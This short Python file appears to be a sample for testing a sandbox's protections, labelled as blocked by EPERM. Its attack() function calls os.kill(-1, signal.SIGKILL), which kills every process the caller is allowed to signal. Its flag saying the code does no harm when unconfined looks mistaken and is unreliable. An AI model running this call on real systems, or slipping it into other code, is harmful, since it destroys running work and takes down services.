"""Kill every process that may be killed."""

import os
import signal

STOPPED_BY = "EPERM"
HARMS_WHEN_UNCONFINED = False


def attack():
    os.kill(-1, signal.SIGKILL)
    return "everyone is dead"
